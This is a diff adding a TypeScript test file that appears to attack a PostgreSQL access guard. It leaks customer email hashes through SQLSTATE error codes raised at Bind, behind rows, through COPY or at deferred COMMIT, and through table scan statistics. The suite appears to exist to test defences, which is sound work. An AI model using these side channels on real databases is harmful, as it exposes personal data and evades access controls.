@@ -1,0 +1,96 @@
+/** An error says five characters by its SQLSTATE alone, and may come where no statement runs: at Bind, which plans, and at the end of a transaction. */
+
+import { attackSuite, type Attacker, type Technique } from '../../support/attack.ts';
+import { rowsOf, wire, type WireClient } from '../../support/wire-client.ts';
+
+const CODE = (mail: string, part: string): string => `upper(substr(right(${mail}, 8), ${part}, 5))`;
+const FAIL = (mail: string, part: string): string => `RAISE EXCEPTION USING ERRCODE = ${CODE(mail, part)}, MESSAGE = 'no'`;
+const MAIL = '(SELECT email FROM crm.customers WHERE id = n)';
+
+export const errorCodes = attackSuite('error-codes', {
+  sql: `
+    CREATE FUNCTION public.fails(n int, part int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN ${FAIL(MAIL, 'part')}; END $$;
+    CREATE FUNCTION public.fails_on(id int, n int, mail text, part int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN IF id = n THEN ${FAIL('mail', 'part')}; END IF; RETURN true; END $$;
+    CREATE FUNCTION public.fail_late() RETURNS trigger LANGUAGE plpgsql AS $$ DECLARE n int := NEW.n; BEGIN ${FAIL(MAIL, 'NEW.part')}; END $$;
+    CREATE TABLE public.put_off (n int, part int);
+    CREATE CONSTRAINT TRIGGER late AFTER INSERT ON public.put_off DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.fail_late();
+    GRANT ALL ON public.put_off TO staff;
+  `,
+});
+const { attack, group } = errorCodes;
+
+/** Where an error's five characters begin in a hash of eight. */
+const PARTS = [1, 4] as const;
+
+/** Asks for both halves of each customer's hash, and puts the codes of the errors together. */
+async function spelled(attacker: Attacker, client: WireClient, ids: Iterable<number>, ask: (id: number, part: number) => Promise<unknown>): Promise<void> {
+  for (const id of ids) {
+    const halves: string[] = [];
+    for (const part of PARTS) {
+      const from = client.messages.length;
+      await ask(id, part);
+      const error = client.messages.slice(from).find(({ type }) => type === 'E')?.body.toString('latin1');
+      halves.push(/\0C(\w{5})\0/.exec(error ?? '')?.[1]?.toLowerCase() ?? '-----');
+    }
+    attacker.decoded += `cnry-${String(id).padStart(6, '0')}-${halves[0] as string}${(halves[1] as string).slice(2)} `;
+  }
+}
+
+const every = (first: number, step: number, last: number): readonly number[] => Array.from({ length: Math.floor((last - first) / step) + 1 }, (_, i) => first + i * step);
+
+const atBind: Technique = async (attacker) => {
+  const client = await attacker.connect();
+  await spelled(attacker, client, every(1, 1, 260), (id, part) => client.ask([wire.parse('', `SELECT fails(${id}, ${part})`), wire.bind('', ''), wire.sync]));
+};
+
+/** Two statements give two customers, and a third by their errors. */
+const behindARow = (ask: (client: WireClient, sql: string) => Promise<unknown>): Technique => async (attacker) => {
+  const client = await attacker.connect();
+  await spelled(attacker, client, every(3, 3, 360), (id, part) => ask(client, `SELECT email FROM crm.customers WHERE id IN (${id - (part === 1 ? 1 : 2)}, ${id}) AND fails_on(id, ${id}, email, ${part})`));
+};
+
+const atTheEnd = (last: readonly Buffer[]): Technique => async (attacker) => {
+  const client = await attacker.connect();
+  await spelled(attacker, client, every(3, 3, 360), async (id, part) => {
+    if (last.length > 1) await client.query('BEGIN');
+    await client.ask([wire.run(`INSERT INTO put_off VALUES (${id}, ${part}) RETURNING (SELECT email FROM crm.customers WHERE id = ${id - (part === 1 ? 1 : 2)})`), wire.sync]);
+    if (last.length > 1) await client.ask(last);
+  });
+};
+
+/** What planning scanned is counted: a digit of a customer for each of four tables, and nothing was executed. */
+const countedAtBind: Technique = async (attacker) => {
+  const { own } = attacker;
+  const client = await attacker.connect();
+  const digits = [0, 1, 2, 3];
+  await client.query(digits.map((i) => `CREATE TABLE public.${own}_${i} ()`).join(';'));
+  const scan = (i: number): string => `PERFORM count((SELECT count(*) FROM public.${own}_${i} WHERE g > 0)) FROM crm.customers c, generate_series(1, ('x' || substr(right(c.email, 8), 1 + 2 * ${i}, 2))::bit(8)::int) g WHERE c.id = n;`;
+  await client.query(`CREATE FUNCTION pg_temp.f(n int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN ${digits.map(scan).join(' ')} RETURN 1; END $$`);
+  const look = async (): Promise<readonly number[]> => {
+    await client.query('SELECT pg_stat_force_next_flush()');
+    const scans = new Map(rowsOf(await client.query(`SELECT relname, seq_scan FROM pg_stat_user_tables WHERE relname LIKE '${own}\\_%'`)).map(([name, scanned]) => [String(name), Number(String(scanned))]));
+    return digits.map((i) => scans.get(`${own}_${i}`) ?? 0);
+  };
+  let before = await look();
+  for (let id = 1; id <= 260; id++) {
+    await client.ask([wire.parse('', `SELECT pg_temp.f(${id})`), wire.bind('', ''), wire.sync]);
+    const after = await look();
+    attacker.decoded += `cnry-${String(id).padStart(6, '0')}-${after.map((scans, i) => (scans - (before[i] ?? 0)).toString(16).padStart(2, '0')).join('')} `;
+    before = after;
+  }
+};
+
+for (const role of ['agent', 'lax'] as const) {
+  group(`SQLSTATEs, ${role}`, 'errors', () => {
+    attack('an error of Bind', atBind, role);
+    attack('an error behind a row, Query', behindARow((client, sql) => client.query(sql)), role);
+    attack('an error behind a row, Execute', behindARow((client, sql) => client.ask([wire.run(sql), wire.sync])), role);
+    attack('an error behind a row, COPY', behindARow((client, sql) => client.query(`COPY (${sql}) TO STDOUT`)), role);
+    attack('an error of Sync behind a row', atTheEnd([]), role);
+    attack('an error of COMMIT behind a row', atTheEnd([wire.query('COMMIT'), wire.query('SELECT 1')]), role);
+  });
+}
+group('planning alone', 'side doors', () => {
+  attack('what a few tables count at Bind', countedAtBind, 'lax');
+});
+
